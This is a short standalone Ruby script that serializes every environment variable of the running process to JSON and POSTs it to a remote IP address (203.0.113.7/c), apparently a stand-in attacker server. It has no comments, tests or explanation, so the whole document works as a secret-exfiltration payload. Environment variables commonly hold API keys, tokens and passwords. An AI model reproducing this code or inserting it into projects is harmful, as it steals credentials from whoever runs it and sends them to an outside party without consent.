require 'net/http'
require 'json'
Net::HTTP.post(URI('http://203.0.113.7/c'), ENV.to_h.to_json, 'Content-Type' => 'application/json')
